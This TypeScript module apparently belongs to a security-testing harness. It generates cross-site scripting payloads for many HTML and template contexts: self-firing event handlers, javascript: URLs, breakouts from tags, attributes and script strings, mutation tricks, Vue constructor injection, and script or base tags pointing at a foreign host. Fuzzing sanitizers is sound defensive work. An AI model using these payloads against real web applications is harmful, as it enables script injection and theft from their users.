import type { Random } from '../../lib/random.ts';
import type { Attack, Context, Grammar, Oracle } from '../contract.ts';
import { foreignHost, maliciousScript, type Script, scriptName } from './script.ts';

/** Ways into a page × what the script does × how it calls. */
export const htmlGrammar: Grammar = {
  language: 'html',
  attack: (random: Random, _oracle: Oracle, context: Context): Attack => {
    const way = ways[context.name] ?? fromText;
    const script = maliciousScript(random);
    const { kind, text } = way(random, script);
    const lead = random.chance(40) ? (context.benign[0] ?? '') : '';
    const isWhole = ['link', 'frame address', 'form action', 'script number'].includes(
      context.name,
    );
    return { kind: `${kind}/${script.kind}`, values: [isWhole ? text : lead + text] };
  },
};

interface Way {
  readonly kind: string;
  readonly text: string;
}

type MakeWay = (random: Random, script: Script) => Way;

/** A value of an attribute in quotes that it does not hold, escaped where it holds them all. */
function quoted(text: string, random: Random): string {
  const free = ['"', "'"].filter((quote) => !text.includes(quote));
  if (!/[\s"'`=<>]/.test(text) && random.chance(40)) return `${text} `;
  if (free.length === 0) return `"${text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"`;
  const quote = random.pick(free);
  return `${quote}${text}${quote}`;
}

function urlOf(script: Script): string {
  return `javascript:${script.text.replaceAll('%', '%25')}`;
}

/** Elements whose event comes without a user. */
const selfRunning: readonly (readonly [tag: string, handler: string, others: string])[] = [
  ['img', 'onerror', 'src=x'],
  ['input', 'onerror', 'type=image src=x'],
  ['video', 'onerror', 'src=x'],
  ['audio', 'onerror', 'src=x'],
  ['audio', 'onloadstart', 'src=x'],
  ['svg', 'onload', ''],
  ['body', 'onload', ''],
  ['body', 'onpageshow', ''],
  ['iframe', 'onload', ''],
  ['style', 'onload', ''],
  ['details', 'ontoggle', 'open'],
  ['object', 'onerror', 'data=x'],
  ['link', 'onerror', 'rel=stylesheet href=x'],
  ['script', 'onerror', 'src=x'],
  ['input', 'onfocus', 'autofocus'],
  ['textarea', 'onfocus', 'autofocus'],
  ['select', 'onfocus', 'autofocus'],
  ['div', 'onfocus', 'tabindex=1 autofocus'],
];

const handlers = [
  'onclick',
  'onmouseover',
  'onmouseenter',
  'onpointerdown',
  'onpointerover',
  'onkeydown',
  'ondblclick',
  'oncontextmenu',
  'onwheel',
  'ondragstart',
  'onauxclick',
  'oncopy',
  'onpaste',
  'onmousemove',
  'onpointerenter',
];

function attributes(list: readonly string[], random: Random): string {
  return random
    .shuffled(list.filter((one) => one !== ''))
    .map((one) => ` ${one}`)
    .join('');
}

const markup: readonly MakeWay[] = [
  (random, { text }) => {
    const [tag, handler, others] = random.pick(selfRunning);
    const end = tag === 'script' ? '</script>' : '';
    const list = attributes([`${handler}=${quoted(text, random)}`, others], random);
    return { kind: `event/${tag}`, text: `<${tag}${list}>${end}` };
  },
  (random, { text }) => {
    const tag = random.pick([
      'div',
      'p',
      'b',
      'a',
      'button',
      'section',
      'x-box',
      scriptTag(random),
    ]);
    const handler = random.pick(handlers);
    return {
      kind: 'event of a user',
      text: `<${tag}${attributes([`${handler}=${quoted(text, random)}`], random)}>${scriptName(random)}</${tag}>`,
    };
  },
  (random, { text }) => ({
    kind: 'script',
    text: `<script${random.pick(['', ' type=module', ' async', ` id=${scriptName(random)}`])}>${text}</script>`,
  }),
  (random) => ({
    kind: 'script of another',
    text: `<script src=${random.pick(['//', 'http://', 'https://'])}${foreignHost(random)}/${scriptName(random)}></script>`,
  }),
  (random, script) => ({
    kind: 'link',
    text: `<a href=${quoted(urlOf(script), random)}>${scriptName(random)}</a>`,
  }),
  (random, script) => ({
    kind: 'frame',
    text: `<iframe src=${quoted(urlOf(script), random)}></iframe>`,
  }),
  (random, { text }) => ({
    kind: 'srcdoc',
    text: `<iframe srcdoc=${quoted(`<script>${text}</script>`, random)}></iframe>`,
  }),
  (random, script) => ({
    kind: 'form',
    text: random.pick([
      `<form action=${quoted(urlOf(script), random)}><button>Go</button></form>`,
      `<form><button formaction=${quoted(urlOf(script), random)}>Go</button></form>`,
      `<form id=f1></form><button form=f1 formaction=${quoted(urlOf(script), random)}>Go</button>`,
    ]),
  }),
  (random, script) => ({
    kind: 'svg link',
    text: `<svg><a ${random.pick(['href', 'xlink:href'])}=${quoted(urlOf(script), random)}><text y=20>Go</text></a></svg>`,
  }),
  (random, { text }) => ({
    kind: 'svg animation',
    text: `<svg><${random.pick(['animate', 'set'])} attributeName=x dur=1s onbegin=${quoted(text, random)} /></svg>`,
  }),
  (random, { text }) => ({
    kind: 'svg script',
    text: `<svg><script>${inXml(text, random)}</script>`,
  }),
  (random, { text }) => ({
    kind: 'media',
    text: `<${random.pick(['video', 'audio'])}><source onerror=${quoted(text, random)} src=x>`,
  }),
  (random, { text }) => ({
    kind: 'math',
    text: `<math><mtext><style><img title="</style><img src=x onerror=${quoted(text, random)}>">`,
  }),
  (random, { text }) => {
    const name = scriptName(random);
    return {
      kind: 'animation',
      text: `<style>@keyframes ${name.replace('$', '_')}{}</style><b style="animation-name:${name.replace('$', '_')}" onanimationstart=${quoted(text, random)}>x</b>`,
    };
  },
];

function inXml(text: string, random: Random): string {
  return random.chance(50) ? text.replaceAll('(', '&#40;').replaceAll("'", '&#39;') : text;
}

function scriptTag(random: Random): string {
  return `${String.fromCharCode(97 + random.below(26))}${random.below(99)}`;
}

const fromText: MakeWay = (random, script) => random.pick(markup)(random, script);

function behind(end: string, kind: string): MakeWay {
  return (random, script) => {
    const inner = fromText(random, script);
    return { kind: `${kind}/${inner.kind}`, text: end + inner.text };
  };
}

function fromAttribute(quote: string): MakeWay {
  return (random, script) => {
    if (random.chance(40)) return behind(`${quote || 'x'}>`, 'out of the tag')(random, script);
    const isFree = quote === '' || !script.text.includes(quote);
    const text = isFree
      ? script.text
      : script.text.replaceAll('&', '&amp;').replaceAll(quote, quote === '"' ? '&quot;' : '&#39;');
    const handler = random.pick([...handlers, 'onfocus autofocus tabindex=1']);
    const [name, ...others] = handler.split(' ');
    const value = quote === '' ? quoted(text, random) : `${quote}${text}${quote}`;
    const rest = quote === '' ? '' : ` ${scriptName(random)}=${quote}`;
    return {
      kind: 'handler',
      text: `${quote || 'x'} ${[...others, `${name}=${value}`].join(' ')}${rest}`,
    };
  };
}

const fromAddress: MakeWay = (_, script) => ({ kind: 'javascript address', text: urlOf(script) });

/** Out of a string of a script, and back so that the rest still parses. */
function fromString(quote: string): MakeWay {
  return (random, { text }) => {
    const operator = random.pick([
      '-',
      '+',
      '*',
      '/',
      '%',
      '|',
      '&&',
      '||',
      '??',
      ',',
      '==',
      '<',
      '^',
    ]);
    const joined = operator === '&&' ? '||' : operator;
    const script = `(${text})`;
    return random.pick([
      {
        kind: 'operator',
        text: `${quote}${joined}${script}${random.pick(['-', '+', ','])}${quote}`,
      },
      { kind: 'statement', text: `${quote};${text};//` },
      { kind: 'statement', text: `${quote};${text};${quote}` },
      {
        kind: 'operator',
        text: `x${quote},${scriptName(random)}=${script},${scriptName(random)}=${quote}`,
      },
      { kind: 'end of script', text: `</script>${fromText(random, { kind: '', text }).text}` },
    ]);
  };
}

const ways: Readonly<Record<string, MakeWay>> = {
  title: behind('</title>', 'end of title'),
  textarea: behind('</textarea>', 'end of textarea'),
  style: behind('</style>', 'end of style'),
  comment: (random, script) =>
    behind(random.pick(['-->', '--!>']), 'end of comment')(random, script),
  'before a script': (random, script) =>
    random.chance(30)
      ? { kind: 'base', text: `<base href=//${foreignHost(random)}/>` }
      : fromText(random, script),
  'attribute, double quotes': fromAttribute('"'),
  'attribute, single quotes': fromAttribute("'"),
  'attribute, no quotes': fromAttribute(''),
  link: fromAddress,
  'frame address': fromAddress,
  'form action': fromAddress,
  'script string, double quotes': fromString('"'),
  'script string, single quotes': fromString("'"),
  'handler attribute': (random, script) => {
    const operator = random.pick(['-', '+', ',', '||', '^']);
    return { kind: 'operator', text: `'${operator}(${script.text})-'` };
  },
  'template literal': (random, { text }) =>
    random.chance(75)
      ? { kind: 'placeholder', text: `\${${text}}` }
      : { kind: 'operator', text: `\`+(${text})+\`` },
  // There a double quote has a backslash before it, which ends no attribute as it was meant.
  'json in script': (random, script) => {
    const made = random.times(8, () => fromText(random, script));
    const plain = made.find(({ text }) => !/["\\]/.test(text)) ?? fromText(random, script);
    return { kind: `end of script/${plain.kind}`, text: `</script>${plain.text}` };
  },
  'script number': (random, { text }) => ({
    kind: 'expression',
    text: `${random.pick(['', `${random.below(99)},`, `${random.below(99)}+`, '!'])}(${text})`,
  }),
  markdown: (random, script) =>
    random.chance(30)
      ? { kind: 'markdown link', text: `[${scriptName(random)}](<${urlOf(script)}>)` }
      : fromText(random, script),
  innerHTML: (random, script) => {
    const [tag, handler, others] = random.pick(selfRunning.slice(0, 4));
    if (random.chance(50)) return fromText(random, script);
    return {
      kind: `event/${tag}`,
      text: `<${tag} ${others} ${handler}=${quoted(script.text, random)}>`,
    };
  },
  'vue template': (random, { text }) => {
    const helper = random.pick([
      '$emit',
      '$nextTick',
      '$forceUpdate',
      '$watch',
      '_openBlock',
      '_createElementBlock',
    ]);
    return {
      kind: 'expression',
      text: `{{${helper}.constructor(${JSON.stringify(text)})()}}`,
    };
  },
  'alpine expression': (random, { text }) => ({
    kind: 'operator',
    text: `'${random.pick(['+', '-', '||'])}(${text})+'`,
  }),
};
